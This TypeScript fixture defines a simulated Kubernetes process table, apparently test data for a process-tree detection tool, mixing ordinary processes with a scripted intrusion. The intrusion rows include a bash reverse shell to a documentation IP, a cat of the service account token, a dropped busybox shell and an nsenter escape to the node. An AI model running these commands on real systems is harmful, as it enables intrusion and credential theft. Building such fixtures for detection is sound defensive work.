/**
 * Every process of the story, with the facts from which all leader fields follow.
 *
 * A process that the runtime starts (`enters` a pod: the entrypoint, or what `kubectl exec` brings) leads its entry, its
 * session and its group. Every other process takes pod, entry, session, group, terminal, user and working directory from
 * its parent, except where its row says otherwise. `leads: 'session'` is a process after setsid (a new terminal);
 * `leads: 'group'` is a job of a shell with job control. A shell without a terminal has no job control, so the commands
 * of the reverse shell stay in the group of the web server.
 *
 * A process keeps its pid and its entity id when it executes another program: `images` lists what it ran, oldest first.
 */
import type { Clock, PodName } from './cluster.ts';

/** A program that a process ran, from `at` on. */
export interface Image {
  readonly at: Clock;
  readonly path: string;
  readonly args: readonly string[];
}

interface Common {
  readonly pid: number;
  readonly start: Clock;
  readonly end?: Clock;
  readonly images: readonly [Image, ...Image[]];
  readonly user?: string;
  readonly cwd?: string;
  readonly terminal?: boolean;
}

/** A process that the runtime put into a pod. */
interface Entry extends Common {
  readonly enters: PodName;
  readonly user: string;
  readonly cwd: string;
  readonly terminal: boolean;
}

/** A process that another process of the table started. */
interface Child extends Common {
  readonly parent: string;
  readonly leads?: 'session' | 'group';
}

export type Row = Entry | Child;

function image(at: Clock, path: string, ...args: string[]): Image {
  return { at, path, args };
}

const table = {
  // shop/storefront: the web server, one of its probes, and the way in
  fpm: {
    enters: 'storefront',
    pid: 40988,
    start: '06:11:02.402',
    user: '0',
    cwd: '/var/www/html',
    terminal: false,
    images: [image('06:11:02.431', '/usr/local/sbin/php-fpm', 'php-fpm')],
  },
  fpmWorker: {
    parent: 'fpm',
    pid: 41010,
    start: '06:11:02.618',
    user: '33',
    images: [image('06:11:02.618', '/usr/local/sbin/php-fpm', 'php-fpm')],
  },
  storefrontProbe: {
    enters: 'storefront',
    pid: 58120,
    start: '09:02:11.371',
    user: '0',
    cwd: '/var/www/html',
    terminal: false,
    images: [image('09:02:11.406', '/usr/bin/dash', 'sh', '-c', 'test -S /run/php-fpm.sock')],
  },
  implant: {
    parent: 'fpmWorker',
    pid: 58302,
    start: '09:12:40.113',
    cwd: '/var/www/html/uploads',
    images: [
      image('09:12:40.118', '/usr/bin/bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.77/8443 0>&1'),
      image('09:12:40.121', '/usr/bin/bash', 'bash', '-i'),
    ],
  },
  firstScript: {
    parent: 'implant',
    pid: 58341,
    start: '09:13:02.630',
    images: [image('09:13:02.633', '/usr/bin/script', 'script', '-qc', 'bash -i', '/dev/null')],
  },
  firstUpgrade: {
    parent: 'firstScript',
    leads: 'session',
    pid: 58342,
    start: '09:13:02.636',
    end: '09:13:02.871',
    terminal: true,
    images: [
      image('09:13:02.638', '/usr/bin/dash', 'sh', '-c', 'bash -i'),
      image('09:13:02.640', '/usr/bin/bash', 'bash', '-i'),
    ],
  },
  script: {
    parent: 'implant',
    pid: 58367,
    start: '09:13:15.301',
    images: [image('09:13:15.304', '/usr/bin/script', 'script', '-qc', 'bash -i', '/dev/null')],
  },
  upgraded: {
    parent: 'script',
    leads: 'session',
    pid: 58368,
    start: '09:13:15.307',
    terminal: true,
    images: [
      image('09:13:15.310', '/usr/bin/dash', 'sh', '-c', 'bash -i'),
      image('09:13:15.312', '/usr/bin/bash', 'bash', '-i'),
    ],
  },
  tokenReader: {
    parent: 'upgraded',
    leads: 'group',
    pid: 58391,
    start: '09:14:28.009',
    images: [
      image('09:14:28.009', '/usr/bin/bash', 'bash', '-i'),
      image('09:14:28.011', '/usr/bin/cat', 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
    ],
  },
  droppedBusybox: {
    parent: 'upgraded',
    leads: 'group',
    pid: 58415,
    start: '09:15:53.444',
    images: [image('09:15:53.447', '/tmp/busybox', '/tmp/busybox', 'sh', '-i')],
  },

  // shop/cart-cache: a new pod starts; later the intruder enters it with the stolen token
  cacheEntrypoint: {
    enters: 'cartCache',
    pid: 22844,
    start: '09:04:38.902',
    user: '0',
    cwd: '/',
    terminal: false,
    images: [image('09:04:38.940', '/bin/busybox', '/bin/sh', '/entrypoint.sh')],
  },
  cacheSed: {
    parent: 'cacheEntrypoint',
    pid: 22861,
    start: '09:04:38.958',
    images: [image('09:04:38.962', '/bin/busybox', '/bin/busybox', 'sed', '-i', 's/@LIMIT@/256mb/', '/etc/cache.conf')],
  },
  cacheExec: {
    enters: 'cartCache',
    pid: 23720,
    start: '09:19:04.811',
    user: '0',
    cwd: '/',
    terminal: true,
    images: [image('09:19:04.846', '/bin/busybox', 'sh')],
  },
  cacheShell: {
    parent: 'cacheExec',
    leads: 'group',
    pid: 23731,
    start: '09:19:22.677',
    images: [image('09:19:22.680', '/bin/busybox', 'sh', '-i')],
  },

  // data/ledger-db-0: an operator at work, a probe, and later the intruder
  operatorExec: {
    enters: 'ledgerDb',
    pid: 23102,
    start: '09:07:14.694',
    user: '1000',
    cwd: '/opt/ledger',
    terminal: true,
    images: [image('09:07:14.730', '/usr/bin/bash', 'bash')],
  },
  operatorBash: {
    parent: 'operatorExec',
    leads: 'group',
    pid: 23140,
    start: '09:07:31.201',
    images: [image('09:07:31.204', '/usr/bin/bash', 'bash', '-i')],
  },
  operatorKsh: {
    parent: 'operatorBash',
    leads: 'group',
    pid: 23177,
    start: '09:08:09.874',
    images: [image('09:08:09.877', '/usr/bin/ksh', 'ksh', '-i')],
  },
  ledgerProbe: {
    enters: 'ledgerDb',
    pid: 23560,
    start: '09:17:00.170',
    user: '1000',
    cwd: '/opt/ledger',
    terminal: false,
    images: [image('09:17:00.204', '/usr/bin/dash', 'sh', '-c', 'sh /opt/ledger/check.sh -i 30 || exit 1')],
  },
  ledgerCheck: {
    parent: 'ledgerProbe',
    pid: 23566,
    start: '09:17:00.213',
    images: [image('09:17:00.215', '/usr/bin/dash', 'sh', '/opt/ledger/check.sh', '-i', '30')],
  },
  intruderExec: {
    enters: 'ledgerDb',
    pid: 24012,
    start: '09:22:05.001',
    user: '1000',
    cwd: '/opt/ledger',
    terminal: true,
    images: [image('09:22:05.034', '/usr/bin/bash', 'bash', '-i')],
  },
  intruderLogin: {
    parent: 'intruderExec',
    leads: 'group',
    pid: 24040,
    start: '09:22:41.587',
    images: [image('09:22:41.590', '/usr/bin/bash', 'bash', '-li')],
  },

  // shop/node-shell: a privileged pod that the intruder starts, and the way out of it to the node
  tini: {
    enters: 'nodeShell',
    pid: 24366,
    start: '09:26:10.371',
    user: '0',
    cwd: '/',
    terminal: true,
    images: [image('09:26:10.404', '/sbin/tini', '/sbin/tini', '--', 'bash', '-i')],
  },
  nodeShellBash: {
    parent: 'tini',
    leads: 'group',
    pid: 24367,
    start: '09:26:10.409',
    images: [image('09:26:10.412', '/usr/bin/bash', 'bash', '-i')],
  },
  nsenter: {
    parent: 'nodeShellBash',
    leads: 'group',
    pid: 24402,
    start: '09:27:33.142',
    images: [
      image('09:27:33.145', '/usr/bin/nsenter', 'nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', 'bash', '-i'),
    ],
  },
  nodeBash: {
    parent: 'nsenter',
    pid: 24403,
    start: '09:27:33.147',
    images: [image('09:27:33.149', '/usr/bin/bash', 'bash', '-i')],
  },

  // ci, notebooks, ops: an ordinary morning
  runnerEntrypoint: {
    enters: 'runner',
    pid: 7040,
    start: '07:30:45.012',
    user: '1001',
    cwd: '/runner',
    terminal: false,
    images: [image('07:30:45.049', '/bin/bash', '/bin/bash', '/runner/start.sh')],
  },
  runnerAgent: {
    parent: 'runnerEntrypoint',
    pid: 7066,
    start: '07:30:45.330',
    images: [image('07:30:45.334', '/usr/local/bin/node', 'node', '/runner/agent.js')],
  },
  ciStep: {
    parent: 'runnerAgent',
    leads: 'session',
    pid: 19544,
    start: '09:03:27.114',
    cwd: '/runner/work/storefront',
    terminal: true,
    images: [image('09:03:27.118', '/bin/bash', '/bin/bash', '-i', '-c', 'make test')],
  },
  jupyter: {
    enters: 'notebook',
    pid: 7344,
    start: '08:01:21.090',
    user: '1000',
    cwd: '/home/mara',
    terminal: false,
    images: [image('08:01:21.122', '/opt/conda/bin/python3.12', 'python3.12', '/opt/conda/bin/jupyter-lab')],
  },
  notebookTerminal: {
    parent: 'jupyter',
    leads: 'session',
    pid: 19620,
    start: '09:06:02.546',
    terminal: true,
    images: [image('09:06:02.551', '/bin/bash', 'bash', '-i')],
  },
  toolboxExec: {
    enters: 'toolbox',
    pid: 19702,
    start: '09:09:52.300',
    user: '0',
    cwd: '/root',
    terminal: true,
    images: [image('09:09:52.337', '/usr/bin/bash', 'bash')],
  },
  installer: {
    parent: 'toolboxExec',
    leads: 'group',
    pid: 19731,
    start: '09:10:45.090',
    cwd: '/root/collector',
    images: [image('09:10:45.093', '/usr/bin/dash', 'sh', './install.sh', '-i')],
  },

  // edge/ingress: the intruder's last stop
  ingressExec: {
    enters: 'ingress',
    pid: 6120,
    start: '09:31:40.205',
    user: '101',
    cwd: '/',
    terminal: true,
    images: [image('09:31:40.241', '/usr/bin/bash', 'bash')],
  },
  ingressBash: {
    parent: 'ingressExec',
    leads: 'group',
    pid: 6144,
    start: '09:31:58.823',
    images: [image('09:31:58.826', '/usr/bin/bash', 'bash', '-i')],
  },
} as const satisfies Record<string, Row>;

export type ProcessName = keyof typeof table;

export const processes: Readonly<Record<ProcessName, Row>> = table;
